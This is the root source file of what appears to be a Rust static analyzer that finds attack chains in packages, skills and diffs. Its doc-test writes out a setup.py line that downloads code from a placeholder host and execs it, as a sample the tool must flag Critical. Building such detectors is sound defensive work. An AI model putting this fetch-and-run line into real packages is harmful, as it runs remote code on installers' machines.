//! Source files to capabilities, and to chains of capabilities that are attacks.
//!
//! ```
//! use code_signals::{Severity, SourceFile, Subject, analyze};
//!
//! let setup = SourceFile {
//!     path: "setup.py",
//!     content: b"import os, urllib.request as u\nexec(u.urlopen('https://host.example.dev/x').read())",
//! };
//! let report = analyze(&[setup], Subject::Package);
//! assert_eq!(report.worst(), Some(Severity::Critical));
//! ```
//!
//! A capability alone (a request, a process, a decoder) is no threat: honest programs have all of them. A chain is one: data
//! of a certain origin reaches a certain effect at a certain time (`chains.rs` has the table). The way to it:
//!
//! 1. `source.rs`, `manifest.rs`, `program.rs`: files to languages, to the time at which each of them executes, and to the
//!    files that they load (`links.rs`); `markdown.rs`: commands in the text of a skill.
//! 2. `lexical.rs`: signs in the text itself.
//! 3. `parse.rs`, `lower.rs`: text to a syntax tree to instructions, one form for all languages (`ir.rs`).
//! 4. `eval.rs`: interpretation of the instructions over abstract values (`value.rs`), with the meaning of names (`api.rs`),
//!    paths (`paths.rs`) and addresses (`endpoint.rs`). Constants are folded (`fold.rs`), and code in constants is read too.
//! 5. `chains.rs`, `findings.rs`: origins that reach effects, to the report (`report.rs`).
//!
//! `added.rs` does the same for the added lines of a diff.
//! `declared.rs` reads the texts of code that language models read, with the same trees.
//!
//! Everything is bounded (`bounds.rs`) and deterministic. Code that was not read in full is part of the report. Pure.

mod added;
mod api;
mod bounds;
mod chains;
mod declared;
mod endpoint;
mod eval;
mod findings;
mod fold;
mod ir;
mod lexical;
mod links;
mod lower;
mod manifest;
mod markdown;
mod names;
mod parse;
mod paths;
mod program;
mod report;
mod secrets;
mod source;
mod value;

pub use added::{AddedLines, analyze_added};
pub use bounds::{MOST_CAPABILITIES, MOST_CHAINS, MOST_FILE_BYTES, MOST_FILES, MOST_SET_BYTES};
pub use declared::{
    CodeText, Declarations, Declared, DeclaredKind, MOST_TEXTS, Reached, TextKind, declarations,
};
pub use report::{
    Capability, CapabilityKind, Chain, Report, Severity, Site, Threat, Time, Unread, UnreadReason,
};
pub use source::{Language, SourceFile, Subject, is_code, language};

use eval::Machine;
use manifest::Manifest;
use names::Names;
use program::{Files, Unit};
use tree_sitter::Tree;

/// Analyzes a set of files. All files are given at once, since they load each other; files that are not code are manifests
/// or are ignored. Never fails: code that cannot be read is part of the report.
#[must_use]
pub fn analyze(files: &[SourceFile<'_>], subject: Subject) -> Report {
    run(&source::sorted(files), subject, None)
}

/// [`analyze`] and [`declarations`], which parse each file once.
#[must_use]
pub fn analyze_with_declarations(files: &[SourceFile<'_>], subject: Subject) -> (Report, Declarations) {
    let mut declarations = Declarations::default();
    let report = run(&source::sorted(files), subject, Some(&mut declarations));
    (report, declarations)
}

/// Analyzes files in the order of their paths. Declarations are read before the interpretation, so that the trees do not exist
/// beside its objects.
fn run(sorted: &[SourceFile<'_>], subject: Subject, declarations: Option<&mut Declarations>) -> Report {
    let manifest = Manifest::read(sorted, subject);
    let mut set = Files::new(sorted, subject, &manifest);
    let mut names = Names::new();
    let mut findings = findings::Findings::new();
    let mut units: Vec<(Unit, Vec<ir::Function>)> = Vec::new();
    let mut trees = declared::Trees::new();
    if sorted.len() > MOST_FILES {
        findings.unread(u32::MAX, UnreadReason::SetTooLong);
    }
    for number in set.readable(&mut findings) {
        let unit = u32::try_from(units.len()).unwrap_or(0);
        if let Some((read, functions, tree)) = read(&set, number, unit, &mut names, &mut findings) {
            units.push((read, functions));
            if declarations.is_some() {
                trees.insert(number as usize, tree);
            }
            if let Some(file) = set.list.get_mut(number as usize) {
                file.unit = Some(unit);
            }
        }
    }
    if let Some(declarations) = declarations {
        *declarations = declared::of_sorted(sorted, trees);
    }
    let mut scripts = manifest.automatic;
    if subject == Subject::Skill {
        scripts.extend(markdown::commands(sorted));
    }
    manifest.dependencies.into_iter().for_each(|found| findings.chain(found));
    let mut machine = Machine::new(&set, &mut names);
    machine.findings = findings;
    for (mut unit, functions) in units {
        unit.base = machine.add_functions(functions);
        machine.units.push(unit);
    }
    machine.run(&scripts);
    let findings = machine.findings;
    findings.report(&set)
}

/// Text of a file to functions; what could not be read is reported.
fn read(
    set: &Files<'_>,
    number: u32,
    unit: u32,
    names: &mut Names,
    findings: &mut findings::Findings,
) -> Option<(Unit, Vec<ir::Function>, Tree)> {
    let file = set.list.get(number as usize)?;
    let language = file.language?;
    let (text, is_cut) = source::readable_text(file.content);
    if is_cut {
        findings.unread(number, UnreadReason::TooLong);
    }
    if memchr::memchr(0, text).is_some() {
        findings.unread(number, UnreadReason::NotText);
        return None;
    }
    lexical::signs(file, number, findings);
    let Some(tree) = parse::parse(text, language, set.is_typed(number)) else {
        // Bundlers load styles and pages by the same call.
        if !file.is_guess {
            findings.unread(number, UnreadReason::Syntax);
        }
        return None;
    };
    let lowered = lower::lower(&tree, text, unit, language, names);
    if lowered.cut {
        findings.unread(number, UnreadReason::TooComplex);
    }
    Some((Unit { file: number, language, base: 0, line: None, hole: 0 }, lowered.functions, tree))
}
